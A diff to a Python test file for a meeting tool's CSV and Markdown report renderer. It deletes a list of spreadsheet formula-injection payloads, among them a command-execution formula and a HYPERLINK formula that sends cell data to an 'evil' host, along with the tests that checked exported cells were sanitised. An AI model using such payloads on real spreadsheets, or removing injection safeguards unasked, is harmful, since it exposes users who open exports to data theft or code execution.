@@ -23,44 +23,14 @@ from amu_tui.model.meeting.session import Signature
 from amu_tui.model.voting.ballot import Choice
 from amu_tui.model.voting.tally import Override, Tie, by_lot, by_run_off
 from amu_tui.render.aims import item_name
-from amu_tui.render.report.csv import ENCODING, HEADER, report_csv, safe_cell
+from amu_tui.render.report.csv import ENCODING, report_csv
 from amu_tui.render.report.markdown import markdown, report_md
 from amu_tui.render.report.outline import action_json, report, report_json
 from amu_tui.render.report.rounds import round_json, round_lines, tie_sentence
-from amu_tui.text import clean
 from tests.render.conftest import Golden
 from tests.render.samples import action, finished, session
 
 TODAY = datetime.date(2017, 12, 15)
-
-FORMULAS = [
-    "=1+1",
-    "=cmd|'/C calc'!A0",
-    '=HYPERLINK("http://evil/?d="&A1,"click")',
-    "+1+1",
-    "-2+3+cmd|'/C calc'!A0",
-    "@SUM(1+1)",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    " =1+1",
-    "＝1+1",
-    "＋1",
-    "－1",
-    "＠SUM(1)",
-    "'=1+1",
-    "%0A=1+1",
-    "|calc",
-    "\x00=1+1",
-    "\ufeff=1+1",
-    "\u200b=1+1",
-    "-5",
-    "+4712345678",
-    "=",
-    "--",
-    "−5",
-]
-PLAIN = ["0001", "1e5", "1-2", "2026-01-01", 'a",=1+1,"b', "a;=1+1;b", "a\n=1+1", "", '"=1+1']
 
 
 def test_the_report_puts_prioritised_actions_first() -> None:
@@ -212,26 +182,6 @@ def test_no_typed_text_breaks_the_table() -> None:
     text = report_md(session().with_action(made), TODAY)
     (line,) = (line for line in text.splitlines() if "a \\| b" in line)
     assert line.replace("\\\\", "").replace("\\|", "").count("|") == 7
-
-
-@pytest.mark.parametrize("typed", [*FORMULAS, *PLAIN])
-def test_no_cell_is_ever_a_formula(typed: str) -> None:
-    made = action("x", "improve", typed or "x", owner=typed, theme="pressure")
-    text = report_csv(session().with_action(made), TODAY)
-    assert not text.startswith("\ufeff")
-    header, row = list(csv.reader(io.StringIO(text, newline="")))
-    assert tuple(header) == HEADER
-    told = dict(zip(header, row, strict=True))
-    assert not told["owner"].lstrip(" \u200b\ufeff").startswith(tuple("=+-@\t\r\n|%\0＝＋－＠−"))
-    assert told["owner"].removeprefix("'") == typed or told["owner"] == typed
-    assert (told["owner"] != typed) == (typed in FORMULAS)
-
-
-def test_cleaned_text_is_safe_too() -> None:
-    for typed in FORMULAS:
-        cell = safe_cell(clean(typed))
-        assert cell.removeprefix("'") == clean(typed) or cell == clean(typed)
-        assert not cell.startswith(tuple("=+-@|%"))
 
 
 def test_the_table_has_a_row_for_each_action() -> None:
